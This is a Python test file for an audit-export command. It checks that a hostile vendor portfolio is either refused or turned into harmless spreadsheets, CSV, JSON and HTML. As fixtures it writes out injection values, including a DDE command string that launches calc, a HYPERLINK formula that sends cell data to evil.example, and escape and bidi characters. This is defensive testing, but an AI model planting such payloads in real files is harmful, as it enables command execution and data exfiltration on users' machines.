"""A bundle of a hostile portfolio is made or refused in words; nothing in it is a formula, a command or markup."""

import csv
import io
import json
import os
import re
import subprocess
import zipfile
from datetime import date

import openpyxl
import pytest
from hostile_inputs import HOSTILE, MARKUP, Hostile, doc
from lxml import etree
from test_hostile_inputs import RAW_CONTROL, here, lay

from labelgov.cli.init import scaffold

TELLING = re.compile("arkup|escape|command|backwards|half a megabyte|lines")
CASES = [
    case for number, case in enumerate(HOSTILE) if not case.heavy and (number % 40 == 0 or TELLING.search(case.name))
]
FORMULAS = Hostile(
    "documents: formulas in every text",
    0,
    files={
        "programs/evil.yaml": doc(
            "Vendor",
            "evil",
            {
                "legalName": '=HYPERLINK("https://evil.example/?"&A1)',
                "country": "PH",
                "tier": "high",
                "owner": "m.okafor",
                "sites": [{"id": "s", "country": "PH", "languages": ["en"]}],
                "contacts": [{"role": "security", "name": "+1+cmd|' /C calc'!A0", "email": "a@example.com"}],
                "subprocessors": [
                    {"id": "x", "legalName": f"@SUM(1;=2) {MARKUP}", "country": "IE", "purpose": "\t=1\n-2\x85"},
                ],
            },
            title="=1+1\u202e;=2",
        ),
    },
)


@pytest.fixture(scope="module")
def good() -> dict[str, str]:
    """The files of a small portfolio that passes."""
    return {path: text for path, text in scaffold(date(2026, 6, 30)).items() if not path.startswith(".")}


def land(root) -> None:
    """Commit everything, on the day before the period ends."""
    at = "2026-06-29T12:00:00+0000"
    who = {"GIT_AUTHOR_NAME": "=1+1 \x1b[31m", "GIT_AUTHOR_EMAIL": "a@example.com", "GIT_AUTHOR_DATE": at}
    who |= {"GIT_COMMITTER_NAME": "@SUM(1)", "GIT_COMMITTER_EMAIL": "<b>", "GIT_COMMITTER_DATE": at}
    given = {"PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1", **who}
    for words in (["init", "-q"], ["add", "-Af"], ["commit", "-q", "--allow-empty", "-m", f"=1+1 \x1b[31m {MARKUP}"]):
        subprocess.run(["git", *words], cwd=root, env=given, check=True, capture_output=True)


@pytest.mark.parametrize(
    "case", [*CASES, FORMULAS], ids=lambda case: case.name.encode("ascii", "backslashreplace").decode()
)
def test_a_bundle_of_a_hostile_portfolio_is_made_or_refused(case, good, tmp_path):
    root, out = tmp_path / "repository", tmp_path / "bundle.zip"
    root.mkdir()
    lay(root, good, case)
    land(root)
    code, printed, error = here(
        ["audit", "export", "--from", "2026-06-29", "--to", "2026-06-30", "--root", str(root), "--out", str(out)]
    )
    assert code in (0, 2), error
    assert not RAW_CONTROL.search((printed + error).replace("\n", ""))
    assert out.exists() is (code == 0)
    if code == 2:
        assert error.startswith("labelgov: ")
        assert "\n  fix: " in error
        return
    with zipfile.ZipFile(out) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            if not name.startswith("source/"):
                harmless(name, archive.read(name))


def harmless(name: str, content: bytes) -> None:
    """Hold a file against what a spreadsheet, a browser or a terminal would make of it."""
    if name.endswith(".xlsx"):
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate)
                    assert cell.hyperlink is None
                    assert not (isinstance(cell.value, str) and RAW_CONTROL.search(cell.value))
        return
    text = content.decode("utf-8-sig")
    assert not RAW_CONTROL.search(text.replace("\r\n", "").replace("\n", "")), name
    if name.endswith(".csv"):
        csv.field_size_limit(10_000_000)
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not re.match(r"\s*[=+@]", cell), (name, cell)
                assert not re.search(r";\s*[=+@]", cell), (name, cell)
    if name.endswith(".json"):
        json.loads(text)
    if name.endswith(".html"):
        scripts = etree.HTML(text).xpath("//script | //@onerror | //img[@src[starts-with(., 'http')]]")
        assert not scripts
